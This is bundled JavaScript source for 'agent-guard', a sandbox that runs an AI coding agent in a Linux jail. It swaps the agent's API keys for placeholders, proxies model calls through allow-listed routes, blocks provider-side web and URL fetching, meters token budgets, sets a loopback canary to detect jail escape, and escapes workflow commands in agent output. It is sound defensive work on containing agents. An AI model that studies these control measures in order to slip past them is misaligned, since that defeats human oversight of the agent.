    .gemini/settings.json: '{"security":{"auth":{"selectedType":"gemini-api-key"}},"privacy":{"usageStatisticsEnabled":false}}'
  routes:
    - POST /v1beta/models/{model}:generateContent
    - POST /v1beta/models/{model}:streamGenerateContent
    - POST /v1beta/models/{model}:countTokens
    - POST /v1beta/models/{model}:embedContent
    - POST /v1beta/models/{model}:batchEmbedContents
    - GET /v1beta/models
    - GET /v1beta/models/{model}
    - POST /v1/models/{model}:generateContent
    - POST /v1/models/{model}:streamGenerateContent
    - POST /v1/models/{model}:countTokens
    - GET /v1/models
    - GET /v1/models/{model}
  query: [alt]

github-models:
  upstream: https://models.github.ai
  keys:
    - { env: GITHUB_MODELS_TOKEN, header: authorization, prefix: "Bearer " }
    - { env: GITHUB_TOKEN, header: authorization, prefix: "Bearer " }
  remove-env: [GITHUB_MODELS_TOKEN, GITHUB_TOKEN, GH_TOKEN, OPENAI_BASE_URL, OPENAI_API_KEY]
  placeholder: ghp_agentguardplaceholder000000000000000
  agent-env:
    OPENAI_BASE_URL: "{base}/inference"
    OPENAI_API_BASE: "{base}/inference"
    OPENAI_API_KEY: "{placeholder}"
  routes:
    - POST /inference/chat/completions
    - POST /orgs/{org}/inference/chat/completions
    - POST /inference/embeddings
    - GET /catalog/models
  query: [api-version]

openrouter:
  upstream: https://openrouter.ai
  keys:
    - { env: OPENROUTER_API_KEY, header: authorization, prefix: "Bearer " }
  remove-env: [OPENROUTER_API_KEY, OPENAI_BASE_URL, OPENAI_API_KEY]
  placeholder: sk-or-v1-agentguardplaceholder0000000000000000000000000000000000000000000000000000
  agent-env:
    OPENROUTER_BASE_URL: "{base}/api/v1"
    OPENAI_BASE_URL: "{base}/api/v1"
    OPENAI_API_BASE: "{base}/api/v1"
    OPENROUTER_API_KEY: "{placeholder}"
    OPENAI_API_KEY: "{placeholder}"
  routes:
    - POST /api/v1/chat/completions
    - POST /api/v1/completions
    - POST /api/v1/responses
    - GET /api/v1/models
  query: []
`;
  }
});

// src/guard/providers.ts
function compileRoute(spec) {
  const m = /^(GET|POST|PUT|DELETE|PATCH) (\/[A-Za-z0-9._:{}/-]*)$/.exec(spec);
  if (!m) throw new GuardError("providers", `bad route "${spec}" (want "METHOD /path")`);
  const [, method, pattern] = m;
  const source = pattern.split(/(\{[a-z]+\})/).map((part) => /^\{[a-z]+\}$/.test(part) ? SEGMENT2 : part.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")).join("");
  const regex = new RegExp(`^${source}$`);
  return { method, pattern, matches: (path14) => regex.test(path14) };
}
function asStringArray(value, where) {
  if (value === void 0) return [];
  if (!Array.isArray(value) || value.some((v) => typeof v !== "string")) {
    throw new GuardError("providers", `${where} must be a list of strings`);
  }
  return value;
}
function parseProviders(text) {
  const doc = (0, import_yaml12.parse)(text);
  const out = /* @__PURE__ */ new Map();
  for (const [name, raw] of Object.entries(doc ?? {})) {
    const where = `providers.yml: ${name}`;
    if (typeof raw?.upstream !== "string") throw new GuardError("providers", `${where}: upstream missing`);
    const keysRaw = raw.keys;
    if (!Array.isArray(keysRaw) || keysRaw.length === 0) throw new GuardError("providers", `${where}: keys missing`);
    const keys = keysRaw.map((k) => {
      if (typeof k?.env !== "string" || typeof k?.header !== "string") {
        throw new GuardError("providers", `${where}: each key needs env and header`);
      }
      return { env: k.env, header: k.header.toLowerCase(), prefix: typeof k.prefix === "string" ? k.prefix : "" };
    });
    const agentEnv = {};
    for (const [k, v] of Object.entries(raw["agent-env"] ?? {})) {
      if (typeof v !== "string") throw new GuardError("providers", `${where}: agent-env.${k} must be a string`);
      agentEnv[k] = v;
    }
    const homeFiles = {};
    for (const [file, content] of Object.entries(raw["home-files"] ?? {})) {
      if (typeof content !== "string") throw new GuardError("providers", `${where}: home-files.${file} must be a string`);
      if (file.startsWith("/") || file.split("/").includes("..")) throw new GuardError("providers", `${where}: home-files.${file} must stay inside HOME`);
      homeFiles[file] = content;
    }
    if (typeof raw.placeholder !== "string") throw new GuardError("providers", `${where}: placeholder missing`);
    out.set(name, {
      name,
      upstream: parseUpstream(raw.upstream, where),
      keys,
      removeEnv: asStringArray(raw["remove-env"], `${where}: remove-env`),
      placeholder: raw.placeholder,
      agentEnv,
      homeFiles,
      routes: asStringArray(raw.routes, `${where}: routes`).map(compileRoute),
      query: asStringArray(raw.query, `${where}: query`)
    });
  }
  return out;
}
function parseUpstream(text, where) {
  let url;
  try {
    url = new URL(text);
  } catch {
    throw new GuardError("providers", `${where}: upstream "${text}" is not a URL`);
  }
  if (url.username || url.password || url.search || url.hash) {
    throw new GuardError("providers", `${where}: upstream "${text}" must not carry credentials, query or fragment`);
  }
  if (url.protocol !== "https:" && !(url.protocol === "http:" && LOOPBACK_HOSTS.has(url.hostname))) {
    throw new GuardError("providers", `${where}: upstream "${text}" must be https (plain http only to loopback)`);
  }
  return url;
}
function builtinProviders() {
  cached2 ??= parseProviders(providers_default);
  return cached2;
}
function homeFilesFor(provider, base) {
  const out = {};
  for (const [file, content] of Object.entries(provider.homeFiles)) {
    out[file] = content.replace(/\{base\}/g, base).replace(/\{placeholder\}/g, provider.placeholder);
  }
  return out;
}
var import_yaml12, SEGMENT2, LOOPBACK_HOSTS, cached2;
var init_providers2 = __esm({
  "src/guard/providers.ts"() {
    "use strict";
    import_yaml12 = __toESM(require_dist());
    init_providers();
    init_errors();
    SEGMENT2 = "[A-Za-z0-9._-]+";
    LOOPBACK_HOSTS = /* @__PURE__ */ new Set(["127.0.0.1", "localhost", "[::1]"]);
  }
});

// src/guard/bodyPolicy.ts
function isRemote(value) {
  const text = typeof value === "string" ? value : value?.url;
  return typeof text === "string" && /^[a-z][a-z0-9+.-]*:/i.test(text.trim()) && !/^data:/i.test(text.trim());
}
function checkTools(tools) {
  for (const tool of tools) {
    if (!tool || typeof tool !== "object") continue;
    const t = tool;
    if (typeof t.type === "string" && FETCHING_TOOL_TYPE.test(t.type)) return `provider-side tool "${t.type}"`;
    for (const key2 of FETCHING_TOOL_KEYS) if (key2 in t) return `provider-side tool "${key2}"`;
  }
  return void 0;
}
function findProviderFetch(body) {
  const walk = (node, depth) => {
    if (depth > MAX_DEPTH3) return "request body nested too deeply to check";
    if (Array.isArray(node)) {
      for (const item of node) {
        const found = walk(item, depth + 1);
        if (found) return found;
      }
      return void 0;
    }
    if (!node || typeof node !== "object") return void 0;
    const obj2 = node;
    for (const [key2, value] of Object.entries(obj2)) {
      if ((key2 === "mcp_servers" || key2 === "mcpServers") && value && (!Array.isArray(value) || value.length > 0)) {
        return "MCP servers run by the provider";
      }
      if (key2 === "web_search_options" && value != null) return "provider-side web search";
      if (key2 === "plugins" && Array.isArray(value) && value.some((p) => p?.id === "web")) {
        return "provider-side web plugin";
      }
      if (key2 === "model" && typeof value === "string" && /:online$/.test(value)) return 'provider-side web search (":online" model)';
      if ((key2 === "tools" || key2 === "functionDeclarations") && Array.isArray(value)) {
        const found = checkTools(value);
        if (found) return found;
      }
      if (key2 === "source" && value && typeof value === "object" && value.type === "url") {
        return "content fetched by the provider from a URL";
      }
      if (REMOTE_REFERENCE_KEYS.has(key2) && isRemote(value)) return `content fetched by the provider from a URL (${key2})`;
      if (value && typeof value === "object") {
        const found = walk(value, depth + 1);
        if (found) return found;
      }
    }
    return void 0;
  };
  return walk(body, 0);
}
var FETCHING_TOOL_TYPE, FETCHING_TOOL_KEYS, REMOTE_REFERENCE_KEYS, MAX_DEPTH3;
var init_bodyPolicy = __esm({
  "src/guard/bodyPolicy.ts"() {
    "use strict";
    FETCHING_TOOL_TYPE = /^(web_search|web_fetch|url_context|google_search|mcp$|mcp_)/;
    FETCHING_TOOL_KEYS = ["googleSearch", "google_search", "googleSearchRetrieval", "google_search_retrieval", "urlContext", "url_context"];
    REMOTE_REFERENCE_KEYS = /* @__PURE__ */ new Set(["image_url", "file_url", "document_url", "audio_url", "video_url", "fileUri", "file_uri"]);
    MAX_DEPTH3 = 64;
  }
});

// src/guard/usage.ts
var INPUT_KEYS, OUTPUT_KEYS, MAX_JSON_BYTES, MAX_SSE_LINE, UsageMeter;
var init_usage = __esm({
  "src/guard/usage.ts"() {
    "use strict";
    INPUT_KEYS = ["input_tokens", "prompt_tokens", "promptTokenCount", "cache_creation_input_tokens", "cache_read_input_tokens"];
    OUTPUT_KEYS = ["output_tokens", "completion_tokens", "candidatesTokenCount", "thoughtsTokenCount"];
    MAX_JSON_BYTES = 8 * 1024 * 1024;
    MAX_SSE_LINE = 1024 * 1024;
    UsageMeter = class _UsageMeter {
      constructor(streaming) {
        this.streaming = streaming;
      }
      streaming;
      seen = /* @__PURE__ */ new Map();
      buffered = [];
      bufferedBytes = 0;
      partialLine = "";
      static forContentType(contentType) {
        return new _UsageMeter(/text\/event-stream/i.test(contentType ?? ""));
      }
      feed(chunk) {
        if (this.streaming) {
          const text = this.partialLine + chunk.toString("utf8");
          const lines = text.split(/\r?\n/);
          this.partialLine = lines.pop() ?? "";
          if (this.partialLine.length > MAX_SSE_LINE) this.partialLine = "";
          for (const line of lines) this.sseLine(line);
        } else if (this.bufferedBytes < MAX_JSON_BYTES) {
          this.buffered.push(chunk);
          this.bufferedBytes += chunk.length;
        }
      }
      finish() {
        if (this.streaming) this.sseLine(this.partialLine);
        else if (this.bufferedBytes > 0 && this.bufferedBytes < MAX_JSON_BYTES) this.json(Buffer.concat(this.buffered).toString("utf8"));
        this.buffered = [];
        const sum = (keys) => keys.reduce((n, k) => n + (this.seen.get(k) ?? 0), 0);
        return { input: sum(INPUT_KEYS), output: sum(OUTPUT_KEYS) };
      }
      sseLine(line) {
        if (line.startsWith("data:")) this.json(line.slice(5).trim());
      }
      json(text) {
        if (!text || text[0] !== "{" && text[0] !== "[") return;
        try {
          this.collect(JSON.parse(text), 0);
        } catch {
        }
      }
      collect(node, depth) {
        if (!node || typeof node !== "object" || depth > 6) return;
        if (Array.isArray(node)) {
          for (const item of node) this.collect(item, depth + 1);
          return;
        }
        for (const [key2, value] of Object.entries(node)) {
          if ((key2 === "usage" || key2 === "usageMetadata") && value && typeof value === "object") {
            for (const [name, n] of Object.entries(value)) {
              if (typeof n === "number" && Number.isFinite(n) && n >= 0 && n > (this.seen.get(name) ?? -1)) this.seen.set(name, n);
            }
          } else if (value && typeof value === "object") {
            this.collect(value, depth + 1);
          }
        }
      }
    };
  }
});

// src/guard/proxy.ts
function checkTarget(provider, method, target) {
  if (!target.startsWith("/") || target.startsWith("//")) throw new Refusal(400, "absolute-form or odd request target");
  const q = target.indexOf("?");
  const path14 = q < 0 ? target : target.slice(0, q);
  const rawQuery = q < 0 ? "" : target.slice(q + 1);
  if (path14.includes("%")) throw new Refusal(400, "percent-encoded path");
  if (!SAFE_PATH.test(path14)) throw new Refusal(400, "path has characters outside the route alphabet");
  if (path14.split("/").some((seg) => seg === "." || seg === "..")) throw new Refusal(400, "path traversal");
  const route = provider.routes.find((r) => r.method === method && r.matches(path14));
  if (!route) throw new Refusal(403, `route not allowed for ${provider.name}`);
  const kept = new URLSearchParams();
  if (rawQuery) {
    if (/[^A-Za-z0-9._~=&%+-]/.test(rawQuery)) throw new Refusal(400, "query has odd characters");
    for (const [name, value] of new URLSearchParams(rawQuery)) {
      if (AUTH_QUERY_PARAMS.has(name.toLowerCase())) continue;
      if (!provider.query.includes(name)) throw new Refusal(403, `query parameter "${name}" not allowed`);
      kept.append(name, value);
    }
  }
  const query = kept.toString();
  return { path: path14, query: query ? `?${query}` : "", route: route.pattern };
}
function checkHost(req2) {
  let hosts = 0;
  for (let i = 0; i < req2.rawHeaders.length; i += 2) if (req2.rawHeaders[i].toLowerCase() === "host") hosts++;
  if (hosts !== 1) throw new Refusal(400, "exactly one Host header is required");
  if (!LOCAL_HOST.test(req2.headers.host ?? "")) throw new Refusal(400, "Host header is not the local bridge");
}
function printable2(text) {
  return text.replace(/[^\x20-\x7e]/g, "?").slice(0, 200);
}
function readBody(req2, limit2) {
  return new Promise((resolve3, reject) => {
    const declared = Number(req2.headers["content-length"] ?? 0);
    if (declared > limit2) {
      reject(new Refusal(413, `request body over ${limit2} bytes`));
      return;
    }
    const chunks = [];
    let size = 0;
    req2.on("data", (chunk) => {
      size += chunk.length;
      if (size > limit2) {
        req2.removeAllListeners("data");
        req2.pause();
        reject(new Refusal(413, `request body over ${limit2} bytes`));
        return;
      }
      chunks.push(chunk);
    });
    req2.on("end", () => resolve3(Buffer.concat(chunks)));
    req2.on("error", reject);
  });
}
function refuse(res, status, reason) {
  const body = JSON.stringify({ type: "error", error: { type: "agent_guard_refused", message: `agent-guard refused: ${reason}` } });
  res.writeHead(status, { "content-type": "application/json", "content-length": Buffer.byteLength(body), connection: "close" });
  res.end(body);
}
function rawRefuse(socket, status, text) {
  const body = `agent-guard refused: ${text}
`;
  try {
    socket.end(`HTTP/1.1 ${status} Refused\r
content-type: text/plain\r
content-length: ${Buffer.byteLength(body)}\r
connection: close\r
\r
${body}`);
  } catch {
    socket.destroy();
  }
}
function createProviderProxy(opts) {
  const { provider, upstream, budget, audit } = opts;
  const client = upstream.protocol === "https:" ? import_node_https.default : import_node_http2.default;
  const agent = new client.Agent({ keepAlive: true, maxSockets: 16 });
  const basePath = upstream.pathname.replace(/\/+$/, "");
  const maxBody = opts.maxBodyBytes ?? MAX_BODY_BYTES;
  const server = import_node_http2.default.createServer(
    { maxHeaderSize: MAX_HEADER_BYTES, requestTimeout: 15 * 6e4, headersTimeout: 6e4, keepAliveTimeout: 5e3 },
    (req2, res) => {
      const started = Date.now();
      const record = {
        time: new Date(started).toISOString(),
        kind: "model",
        provider: provider.name,
        method: printable2(req2.method ?? ""),
        route: printable2((req2.url ?? "").split("?")[0]),
        status: 0,
        requestBytes: 0,
        responseBytes: 0,
        ms: 0
      };
      const finish = (status, refused) => {
        record.status = status;
        record.ms = Date.now() - started;
        if (refused) record.refused = refused;
        audit.add(record);
      };
      const handle = async () => {
        const method = req2.method ?? "";
        const target = checkTarget(provider, method, req2.url ?? "");
        record.route = target.route;
        checkHost(req2);
        if (budget.maxRequests !== void 0 && budget.requests >= budget.maxRequests) {
          throw new Refusal(429, `request budget of ${budget.maxRequests} used up`);
        }
        if (budget.maxTokens !== void 0 && budget.tokens >= budget.maxTokens) {
          throw new Refusal(429, `token budget of ${budget.maxTokens} used up`);
        }
        const body = await readBody(req2, maxBody);
        record.requestBytes = body.length;
        if (method === "GET" && body.length > 0) throw new Refusal(400, "GET with a body");
        if (method !== "GET") {
          let parsed;
          try {
            parsed = JSON.parse(body.toString("utf8"));
          } catch {
            throw new Refusal(400, "request body is not JSON");
          }
          if (!opts.allowProviderFetch) {
            const fetches = findProviderFetch(parsed);
            if (fetches) throw new Refusal(403, fetches);
          }
        }
        budget.requests++;
        forward(method, target, body);
      };
      const forward = (method, target, body) => {
        const headers = {};
        for (const [name, value] of Object.entries(req2.headers)) {
          if (value === void 0 || DROPPED_REQUEST_HEADERS.has(name) || name.startsWith("proxy-")) continue;
          headers[name] = value;
        }
        headers[opts.authHeader] = opts.authValue;
        headers["accept-encoding"] = "identity";
        if (method !== "GET") headers["content-length"] = body.length;
        const upReq = client.request(
          {
            protocol: upstream.protocol,
            hostname: upstream.hostname.replace(/^\[|\]$/g, ""),
            port: upstream.port || void 0,
            method,
            path: basePath + target.path + target.query,
            headers,
            agent
          },
          (upRes) => {
            const meter = UsageMeter.forContentType(upRes.headers["content-type"]);
            const outHeaders = {};
            for (const [name, value] of Object.entries(upRes.headers)) {
              if (value !== void 0 && !DROPPED_RESPONSE_HEADERS.has(name)) outHeaders[name] = value;
            }
            res.writeHead(upRes.statusCode ?? 502, outHeaders);
            res.flushHeaders();
            upRes.on("data", (chunk) => {
              record.responseBytes += chunk.length;
              meter.feed(chunk);
            });
            upRes.pipe(res);
            const done = () => {
              const tokens = meter.finish();
              record.inputTokens = tokens.input;
              record.outputTokens = tokens.output;
              budget.tokens += tokens.input + tokens.output;
              finish(upRes.statusCode ?? 502);
            };
            upRes.on("end", done);
            upRes.on("error", () => {
              res.destroy();
              finish(502, "upstream response broke off");
            });
          }
        );
        upReq.on("error", (err) => {
          if (!res.headersSent) refuse(res, 502, `upstream unreachable (${err.code ?? err.message})`);
          else res.destroy();
          if (!record.status) finish(502, `upstream error ${err.code ?? ""}`.trim());
        });
        res.on("close", () => {
          if (!res.writableFinished) upReq.destroy();
        });
        upReq.end(method === "GET" ? void 0 : body);
      };
      handle().catch((err) => {
        const refusal = err instanceof Refusal ? err : new Refusal(500, "internal proxy error");
        refuse(res, refusal.status, refusal.reason);
        finish(refusal.status, refusal.reason);
      });
    }
  );
  const auditRaw = (status, reason, method = "", route = "") => audit.add({ time: (/* @__PURE__ */ new Date()).toISOString(), kind: "model", provider: provider.name, method, route, status, requestBytes: 0, responseBytes: 0, ms: 0, refused: reason });
  server.on("connect", (req2, socket) => {
    auditRaw(405, "CONNECT refused", "CONNECT", printable2(req2.url ?? ""));
    rawRefuse(socket, 405, "CONNECT is not allowed");
  });
  server.on("upgrade", (req2, socket) => {
    auditRaw(403, "protocol upgrade refused", printable2(req2.method ?? ""), printable2((req2.url ?? "").split("?")[0]));
    rawRefuse(socket, 403, "protocol upgrades are not allowed");
  });
  const answered = /* @__PURE__ */ new WeakSet();
  server.on("clientError", (err, socket) => {
    if (answered.has(socket)) return socket.destroy();
    answered.add(socket);
    const code3 = err.code ?? "HPE_INVALID";
    const status = code3 === "HPE_HEADER_OVERFLOW" ? 431 : code3 === "ERR_HTTP_REQUEST_TIMEOUT" ? 408 : 400;
    auditRaw(status, `malformed request (${code3})`);
    if (socket.writable) rawRefuse(socket, status, `malformed request (${code3})`);
    else socket.destroy();
  });
  server.on("close", () => agent.destroy());
  return server;
}
var import_node_http2, import_node_https, MAX_HEADER_BYTES, MAX_BODY_BYTES, DROPPED_REQUEST_HEADERS, DROPPED_RESPONSE_HEADERS, AUTH_QUERY_PARAMS, LOCAL_HOST, SAFE_PATH, Refusal;
var init_proxy = __esm({
  "src/guard/proxy.ts"() {
    "use strict";
    import_node_http2 = __toESM(require("node:http"));
    import_node_https = __toESM(require("node:https"));
    init_bodyPolicy();
    init_usage();
    MAX_HEADER_BYTES = 32 * 1024;
    MAX_BODY_BYTES = 32 * 1024 * 1024;
    DROPPED_REQUEST_HEADERS = /* @__PURE__ */ new Set([
      "host",
      "connection",
      "keep-alive",
      "proxy-connection",
      "proxy-authorization",
      "proxy-authenticate",
      "te",
      "trailer",
      "transfer-encoding",
      "upgrade",
      "content-length",
      "expect",
      "accept-encoding",
      "authorization",
      "x-api-key",
      "api-key",
      "x-goog-api-key",
      "cookie",
      "forwarded",
      "x-forwarded-for",
      "x-forwarded-host",
      "x-forwarded-proto",
      "x-real-ip",
      "x-goog-user-project",
      "openai-organization",
      "openai-project",
      "anthropic-admin-api-key",
      "x-gemini-api-privileged-user-id",
      "http2-settings"
    ]);
    DROPPED_RESPONSE_HEADERS = /* @__PURE__ */ new Set([
      "connection",
      "keep-alive",
      "proxy-connection",
      "te",
      "trailer",
      "transfer-encoding",
      "upgrade",
      "set-cookie"
    ]);
    AUTH_QUERY_PARAMS = /* @__PURE__ */ new Set(["key", "api_key", "apikey", "api-key", "access_token", "token", "auth"]);
    LOCAL_HOST = /^(127\.0\.0\.1|localhost|\[::1\])(:[0-9]{1,5})?$/i;
    SAFE_PATH = /^(\/[A-Za-z0-9._:~-]+)+\/?$/;
    Refusal = class extends Error {
      constructor(status, reason) {
        super(reason);
        this.status = status;
        this.reason = reason;
      }
      status;
      reason;
    };
  }
});

// src/guard/workflowCommands.ts
function isMaybeWhitespace(byte) {
  return byte === 32 || byte === 9 || byte === 11 || byte === 12 || byte >= 128;
}
var ZWSP, COLON, HASH, BRACKET, LF, CR, WorkflowCommandNeutralizer;
var init_workflowCommands = __esm({
  "src/guard/workflowCommands.ts"() {
    "use strict";
    ZWSP = Buffer.from("\u200B", "utf8");
    COLON = 58;
    HASH = 35;
    BRACKET = 91;
    LF = 10;
    CR = 13;
    WorkflowCommandNeutralizer = class {
      /** 0: only blanks so far on this line, 1: blanks then one ':', 2: anything else. */
      lineState = 0;
      last1 = LF;
      last2 = LF;
      get atLineStart() {
        return this.last1 === LF || this.last1 === CR;
      }
      transform(chunk) {
        let inserts = 0;
        const positions = [];
        for (let i = 0; i < chunk.length; i++) {
          const byte = chunk[i];
          let escape = false;
          if (byte === LF || byte === CR) {
            this.lineState = 0;
          } else if (this.lineState === 0) {
            this.lineState = byte === COLON ? 1 : isMaybeWhitespace(byte) ? 0 : 2;
          } else if (this.lineState === 1) {
            escape = byte === COLON;
            this.lineState = 2;
          }
          if (byte === BRACKET && this.last1 === HASH && this.last2 === HASH) escape = true;
          if (escape) {
            positions.push(i);
            inserts++;
            this.last2 = ZWSP[ZWSP.length - 2];
            this.last1 = ZWSP[ZWSP.length - 1];
          }
          this.last2 = this.last1;
          this.last1 = byte;
        }
        if (inserts === 0) return chunk;
        const parts = [];
        let from = 0;
        for (const at of positions) {
          parts.push(chunk.subarray(from, at), ZWSP);
          from = at;
        }
        parts.push(chunk.subarray(from));
        return Buffer.concat(parts);
      }
    };
  }
});

// src/guard/command.ts
var command_exports = {};
__export(command_exports, {
  TIMEOUT_EXIT: () => TIMEOUT_EXIT,
  doctorMain: () => doctorMain,
  parseRunArgs: () => parseRunArgs,
  runGuarded: () => runGuarded,
  runMain: () => runMain
});
function listenUnix(server, socketPath) {
  return new Promise((resolve3, reject) => {
    server.once("error", reject);
    server.listen(socketPath, () => {
      server.off("error", reject);
      import_node_fs10.default.chmodSync(socketPath, 438);
      resolve3();
    });
  });
}
function closeServer(server) {
  return new Promise((resolve3) => {
    server.close(() => resolve3());
    server.closeAllConnections?.();
  });
}
function chooseProviders(opts, env) {
  const all = builtinProviders();
  return opts.providers.map((choice) => {
    const provider = all.get(choice.name);
    if (!provider) throw new GuardError("providers", `unknown provider "${choice.name}" (known: ${[...all.keys()].join(", ")})`);
    const upstream = choice.upstream ? parseUpstream(choice.upstream, `--provider ${choice.name}`) : provider.upstream;
    const source = provider.keys.find((k) => env[k.env]);
    if (!source) {
      throw new GuardError("providers", `--provider ${choice.name}: none of ${provider.keys.map((k) => k.env).join(", ")} is set in the guard's environment`);
    }
    const key2 = env[source.env];
    if (/[\r\n\0]/.test(key2)) throw new GuardError("providers", `${source.env} contains a line break or NUL`);
    return { provider, upstream, keyHeader: source.header, keyValue: source.prefix + key2, key: key2 };
  });
}
async function runGuarded(opts, io) {
  const facts = { uid: process.getuid?.() ?? -1, gid: process.getgid?.() ?? -1, home: import_node_os3.default.homedir(), env: io.env };
  if (process.platform !== "linux") throw new GuardError("jail", "the jail needs Linux namespaces; this is " + process.platform);
  const chosen = chooseProviders(opts, io.env);
  const elevation = findElevation(facts);
  const bwrap = findExecutable("bwrap", `${io.env.PATH ?? ""}:/usr/bin:/usr/local/bin`);
  if (!bwrap) throw new GuardError("jail", "bubblewrap (bwrap) is not installed: apt-get install bubblewrap");
  const workspace2 = resolveWorkspace(facts, opts.workspaceMode, io.cwd);
  const cwdReal = import_node_fs10.default.realpathSync(io.cwd);
  const agentCwd = cwdReal.startsWith(workspace2.dir + "/") || cwdReal === workspace2.dir ? cwdReal : workspace2.dir;
  const secrets = knownSecrets(io.env, chosen.map((c) => c.key));
  const audit = new AuditLog(opts.auditFile);
  const budget = { maxRequests: opts.maxRequests, maxTokens: opts.maxTokens, requests: 0, tokens: 0 };
  const privateDir = makePrivateDir();
  const servers = [];
  const lifelines = /* @__PURE__ */ new Set();
  let hostConnections = 0;
  try {
    const bridges = [];
    const bases = [];
    for (const [i, c] of chosen.entries()) {
      const server = createProviderProxy({
        provider: c.provider,
        upstream: c.upstream,
        authHeader: c.keyHeader,
        authValue: c.keyValue,
        budget,
        audit,
        allowProviderFetch: opts.allowProviderFetch
      });
      const hostSocket = import_node_path7.default.join(privateDir, `${c.provider.name}.sock`);
      await listenUnix(server, hostSocket).catch((err) => {
        throw new GuardError("proxy", `cannot listen on ${hostSocket}: ${err.message}`);
      });
      servers.push(server);
      const port = FIRST_PROVIDER_PORT + i;
      bridges.push({ name: c.provider.name, port, hostSocket });
      bases.push({ provider: c.provider, base: `http://127.0.0.1:${port}` });
    }
    let egressUrl;
    if (opts.allowHosts.length > 0) {
      const server = createEgressProxy({ allowHosts: opts.allowHosts, audit });
      const hostSocket = import_node_path7.default.join(privateDir, "egress.sock");
      await listenUnix(server, hostSocket).catch((err) => {
        throw new GuardError("egress", `cannot listen on ${hostSocket}: ${err.message}`);
      });
      servers.push(server);
      bridges.push({ name: "egress", port: EGRESS_PORT, hostSocket });
      egressUrl = `http://127.0.0.1:${EGRESS_PORT}`;
    }
    const hostListener = import_node_net2.default.createServer((s) => {
      hostConnections++;
      s.destroy();
    });
    await new Promise((resolve3, reject) => hostListener.once("error", reject).listen(0, "127.0.0.1", () => resolve3())).catch((err) => {
      throw new GuardError("canary", `cannot open the host loopback canary: ${err.message}`);
    });
    servers.push(hostListener);
    const hostLoopbackPort = hostListener.address().port;
    const lifelineSocket = import_node_path7.default.join(privateDir, "lifeline.sock");
    const lifeline = import_node_net2.default.createServer((s) => {
      lifelines.add(s);
      s.on("error", () => void 0);
      s.on("close", () => lifelines.delete(s));
    });
    await listenUnix(lifeline, lifelineSocket);
    servers.push(lifeline);
    const { env } = buildAgentEnv({ hostEnv: io.env, passEnv: opts.passEnv, providers: bases, egressUrl, secrets });
    const plan = planJail(
      {
        facts,
        workspace: workspace2.dir,
        workspaceMode: opts.workspaceMode,
        cwd: agentCwd,
        command: opts.command,
        env,
        bridges,
        hostLoopbackPort,
        privateDir,
        lifelineSocket,
        secrets,
        homeFiles: Object.assign({}, ...bases.map((b) => homeFilesFor(b.provider, b.base)))
      },
      workspace2
    );
    const exitCode = await runJail(elevation.kind === "sudo" ? elevation.sudo : void 0, bwrap, plan.bwrapArgs, plan.config.nonce, opts, io);
    if (hostConnections > 0) throw new GuardError("canary", "the host loopback canary received a connection from the jail");
    return { exitCode, audit };
  } finally {
    for (const s of lifelines) s.destroy();
    await Promise.all(servers.map(closeServer));
    audit.close();
    import_node_fs10.default.rmSync(privateDir, { recursive: true, force: true });
  }
}
function runJail(sudo, bwrap, bwrapArgs, nonce, opts, io) {
  return new Promise((resolve3, reject) => {
    const file = sudo ?? bwrap;
    const args = sudo ? ["-n", "--", bwrap, ...bwrapArgs] : bwrapArgs;
    const child = (0, import_node_child_process3.spawn)(file, args, { env: { PATH: "/usr/local/bin:/usr/bin:/bin" }, stdio: ["inherit", "pipe", "pipe"] });
    const outFilter = new WorkflowCommandNeutralizer();
    const errFilter = new WorkflowCommandNeutralizer();
    let handshake = "waiting";
    let failure = "";
    let early = "";
    const marker = `AGENT_GUARD_INIT ${nonce} `;
    let timedOut = false;
    child.stdout.on("data", (chunk) => io.stdout.write(outFilter.transform(chunk)));
    child.stderr.on("data", (chunk) => {
      if (handshake !== "waiting") {
        if (handshake === "ok") io.stderr.write(errFilter.transform(chunk));
        else failure += chunk.toString("utf8");
        return;
      }
      early += chunk.toString("utf8");
      const at = early.indexOf(marker);
      if (at < 0) return;
      const lineEnd = early.indexOf("\n", at);
      if (lineEnd < 0) return;
      const status = early.slice(at + marker.length, lineEnd);
      const before = early.slice(0, at);
      const after = early.slice(lineEnd + 1);
      if (status === "ok") {
        handshake = "ok";
        if (before.trim()) io.stderr.write(errFilter.transform(Buffer.from(before)));
        if (after) io.stderr.write(errFilter.transform(Buffer.from(after)));
      } else {
        handshake = "failed";
        failure = status.replace(/^fail /, "");
      }
    });
    let timer;
    if (opts.timeoutSeconds) {
      timer = setTimeout(() => {
        timedOut = true;
        child.kill("SIGTERM");
        setTimeout(() => child.kill("SIGKILL"), 5e3).unref();
      }, opts.timeoutSeconds * 1e3);
    }
    const forward = (signal) => () => child.kill(signal);
    const onTerm = forward("SIGTERM");
    const onInt = forward("SIGINT");
    process.on("SIGTERM", onTerm);
    process.on("SIGINT", onInt);
    child.on("error", (err) => reject(new GuardError("jail", `cannot start ${file}: ${err.message}`)));
    child.on("close", (code3, signal) => {
      if (timer) clearTimeout(timer);
      process.off("SIGTERM", onTerm);
      process.off("SIGINT", onInt);
      if (!outFilter.atLineStart) io.stdout.write("\n");
      if (!errFilter.atLineStart) io.stderr.write("\n");
      if (timedOut) {
        io.stderr.write(`agent-guard: the agent ran past --timeout ${opts.timeoutSeconds}s and was stopped with everything it started
`);
        resolve3(TIMEOUT_EXIT);
        return;
      }
      if (handshake === "failed") {
        const layer = failure.startsWith("canary") ? "canary" : failure.startsWith("bridge") ? "network" : "jail";
        reject(new GuardError(layer, `jail self-check failed, the agent did not run: ${failure.trim()}`));
        return;
      }
      if (handshake === "waiting") {
        const firstLine = early.split("\n").find((l) => l.trim()) ?? `exit ${code3 ?? signal}`;
        reject(new GuardError("jail", `the jail could not be built, the agent did not run: ${firstLine.trim()}`));
        return;
      }
      resolve3(code3 ?? 128 + (signal ? import_node_os3.default.constants.signals[signal] : 1));
    });
  });
}
function writeStepSummary(env, audit, exitCode) {
  const file = env.GITHUB_STEP_SUMMARY;
  if (!file) return;
  try {
    import_node_fs10.default.appendFileSync(file, audit.stepSummaryMarkdown(exitCode));
  } catch {
  }
}
async function runMain(args) {
  const io = { stdout: process.stdout, stderr: process.stderr, env: process.env, cwd: process.cwd() };
  try {
    const opts = parseRunArgs(args);
    const { exitCode, audit } = await runGuarded(opts, io);
    io.stderr.write(audit.summaryLine(exitCode) + "\n");
    writeStepSummary(io.env, audit, exitCode);
    return exitCode;
  } catch (err) {
    if (err instanceof GuardError) {
      io.stderr.write(`agent-guard: ${err.layer === "usage" ? "" : `${err.layer} layer: `}${err.message}
`);
    } else {
      io.stderr.write(`agent-guard: internal error: ${err?.message ?? String(err)}
`);
    }
    return GUARD_FAILURE_EXIT;
  }
